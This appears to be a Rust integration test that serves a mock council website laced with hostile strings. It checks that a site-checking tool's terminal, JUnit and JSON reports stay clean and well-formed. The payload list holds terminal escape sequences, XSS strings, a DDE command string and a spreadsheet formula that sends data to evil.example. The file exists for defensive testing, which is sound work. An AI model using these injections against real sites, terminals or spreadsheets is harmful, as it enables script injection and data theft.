//! Whatever a site says of itself, every report of it stays what it is: XML stays well-formed, JSON is
//! read, a terminal is not steered.

use std::process::{Command, Output};

use super::farm::{Asked, Farm, Reply};

/// What a page may say to harm its reader: controls, a terminal's commands, the other direction of
/// writing, markup of every kind, formulas, line ends, noncharacters.
const WORDS: [&str; 14] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{9b}31m",
    "\u{202e}drawkcab\u{2066}",
    "]]><script>alert(1)</script>",
    "</title></text></svg><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "| a | b |\r\n|---|---|\n# head\n- [x](javascript:alert(1))",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{e}\u{1f}\u{7f}\u{85}\u{2028}",
    "\u{fffe}\u{ffff}\u{fdd0}\u{feff}",
    "&lt;b&gt; &amp;amp; &#0; &#x1b; &#xd800; &nosuch;",
];

fn escaped(words: &str) -> String {
    words
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;")
}

fn page(title: &str, main: &str) -> Reply {
    let all: String = WORDS
        .iter()
        .map(|words| escaped(words))
        .collect::<Vec<_>>()
        .join(" ");
    Reply::page(format!(
        "<!doctype html><html lang=en><meta charset=utf-8><title>{title} {all}</title>
         <h1>{title} {all}</h1><nav aria-label=\"{all}\"><a href=/ title=\"{all}\">Home {all}</a></nav>
         <main>{main}<p>{all}</p><table><caption>{all}</caption><tr><th>{all}</table></main></html>"
    ))
}

fn answer(asked: &Asked) -> Reply {
    let links: String = WORDS
        .iter()
        .map(|words| {
            format!(
                "<li><a href=/bins>{} Find your bin collection day</a>",
                escaped(words)
            )
        })
        .collect();
    match asked.path.as_str() {
        "/" => page(
            "Council",
            &format!("<ul>{links}</ul><a href=/contact>Contact us</a>"),
        ),
        "/bins" => {
            let fields: String = WORDS
                .iter()
                .map(|words| format!("<label for=p>Postcode {}</label>", escaped(words)))
                .collect();
            page(
                "Find your bin collection day",
                &format!(
                    "<form action=/f>{fields}<input id=p name=postcode><button>Find {}</button></form>",
                    escaped(WORDS[6])
                ),
            )
        }
        "/contact" => page("Contact us", "<a href=tel:01234>01234 567890</a>"),
        _ => Reply::not_found(),
    }
}

fn beadle(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_beadle"))
        .args(arguments)
        .output()
        .unwrap()
}

/// What no text for a person holds: controls but line ends and tabs, directions, what XML forbids.
fn is_foul(c: char) -> bool {
    let number = u32::from(c);
    c.is_control() && !matches!(c, '\n' | '\t')
        || matches!(number, 0x200e | 0x200f | 0x202a..=0x202e | 0x2066..=0x2069)
        || number & 0xfffe == 0xfffe
}

fn clean(what: &str, text: &str) {
    if let Some((at, foul)) = text.char_indices().find(|(_, c)| is_foul(*c)) {
        let from = text[..at]
            .char_indices()
            .rev()
            .nth(60)
            .map_or(0, |(from, _)| from);
        panic!("{what} holds {foul:?} after {:?}", &text[from..at]);
    }
}

fn well_formed(what: &str, text: &str) {
    let mut reader = quick_xml::Reader::from_str(text);
    reader.config_mut().check_end_names = true;
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => return,
            Ok(_) => {}
            Err(error) => panic!("{what} at {}: {error}", reader.error_position()),
        }
    }
}

#[test]
fn whatever_a_site_says_every_report_of_it_stays_what_it_is() {
    let farm = Farm::start(26, &["strangers.example"], answer);
    let url = format!("http://{}/", farm.map["strangers.example"]);
    let check = |more: &[&str]| {
        let ran = beadle(
            &[
                &["check", &url, "--journey", "bin-day", "--pages", "12"],
                more,
            ]
            .concat(),
        );
        assert_eq!(
            ran.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&ran.stderr)
        );
        clean("what is said beside", &String::from_utf8_lossy(&ran.stderr));
        String::from_utf8(ran.stdout).unwrap()
    };
    let terminal = check(&["--verbose"]);
    assert!(terminal.contains("collection day"), "{terminal}");
    clean("the terminal", &terminal);
    let junit = check(&["--junit"]);
    clean("JUnit", &junit);
    well_formed("JUnit", &junit);
    let json: serde_json::Value = serde_json::from_str(&check(&["--json"])).unwrap();
    every_string_is_clean(&json);
}

fn every_string_is_clean(json: &serde_json::Value) {
    match json {
        serde_json::Value::String(text) => clean("JSON", text),
        serde_json::Value::Array(all) => all.iter().for_each(every_string_is_clean),
        serde_json::Value::Object(all) => all.values().for_each(every_string_is_clean),
        _ => {}
    }
}
